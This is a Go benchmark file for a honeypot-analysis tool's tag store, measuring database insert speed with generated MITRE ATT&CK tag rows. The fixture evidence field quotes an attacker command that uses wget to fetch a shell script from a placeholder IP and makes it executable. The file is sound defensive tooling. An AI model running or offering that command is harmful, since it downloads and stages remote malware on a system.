package store

import (
	"database/sql"
	"fmt"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"ttpctl/internal/event"
)

// batch is how many tags the benchmarks insert in a transaction.
const batch = 5000

// someTags returns n tags, numbered from first, of the shape that a Cowrie log
// gives: no identity, a session of about 12 tags, 200 attackers.
func someTags(first, n int) []event.Tag {
	tags := make([]event.Tag, n)
	for i := range tags {
		id := first + i
		source := fmt.Sprintf("cmd_%08d", id)
		technique := fmt.Sprintf("T%04d", 1000+id%60)
		rule := fmt.Sprintf("R%04d", id%62)
		tags[i] = event.Tag{
			UUID:       event.TagUUID("command", source, rule, 1, technique, technique+".001"),
			SourceKind: "command", SourceID: source,
			AttackerUUID: fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", id/12%200),
			SessionID:    event.Some(fmt.Sprintf("session-%d", id/12)), DeckyID: event.Some("decky-1"),
			Tactic: "TA0002", Technique: technique, SubTechnique: technique + ".001", Confidence: 0.85,
			RuleID: rule, RuleVersion: 1,
			Evidence:      []byte(`{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh","matched":"wget http"}`),
			AttackRelease: "enterprise-v19.1", MitreURL: "https://attack.mitre.org/techniques/" + technique + "/001",
			ObservedAt: "2026-11-22T10:00:00Z",
		}
	}
	return tags
}

func benchmarkInsert(b *testing.B, insert func(db *DB, tags []event.Tag) error, replay bool) {
	db, err := OpenDB(b.Context(), filepath.Join(b.TempDir(), "bench.db"), DBOptions{Now: time.Now})
	if err != nil {
		b.Fatal(err)
	}
	defer db.Close()
	first := 0
	tags := someTags(0, batch)
	if replay {
		if err := insert(db, tags); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportAllocs()
	var spent time.Duration
	for b.Loop() {
		if !replay {
			b.StopTimer()
			tags = someTags(first, batch)
			first += batch
			b.StartTimer()
		}
		before := cpuTime(b)
		if err := insert(db, tags); err != nil {
			b.Fatal(err)
		}
		spent += cpuTime(b) - before
	}
	b.ReportMetric(float64(batch*b.N)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(spent.Nanoseconds())/float64(batch*b.N), "cpu-ns/row")
}

// cpuTime is what the process has used of its processors: on a machine that
// others use too, it compares better than time passed.
func cpuTime(b *testing.B) time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		b.Fatal(err)
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func insertOurs(db *DB, tags []event.Tag) error {
	_, err := db.Tags().Insert(db.tail.ctx, tags)
	return err
}

// insertBare is the same driver with the same table and statement, and none of
// our code: the measure that Insert must come near.
func insertBare(db *DB, tags []event.Tag) error {
	tx, err := db.writer.Begin()
	if err != nil {
		return err
	}
	defer tx.Rollback()
	stmt, err := tx.Prepare(sqlInsertTag)
	if err != nil {
		return err
	}
	defer stmt.Close()
	for i := range tags {
		t := &tags[i]
		var identity sql.NullString
		if _, err := stmt.Exec(t.UUID.String(), t.SourceKind, t.SourceID, t.AttackerUUID, identity, t.SessionID.Value, t.DeckyID.Value,
			t.Tactic, t.Technique, t.SubTechnique, t.Confidence, t.RuleID, t.RuleVersion, string(t.Evidence), t.AttackRelease, t.MitreURL, t.ObservedAt, 0); err != nil {
			return err
		}
	}
	return tx.Commit()
}

func BenchmarkInsert(b *testing.B)     { benchmarkInsert(b, insertOurs, false) }
func BenchmarkInsertBare(b *testing.B) { benchmarkInsert(b, insertBare, false) }
func BenchmarkReplay(b *testing.B)     { benchmarkInsert(b, insertOurs, true) }
func BenchmarkReplayBare(b *testing.B) { benchmarkInsert(b, insertBare, true) }
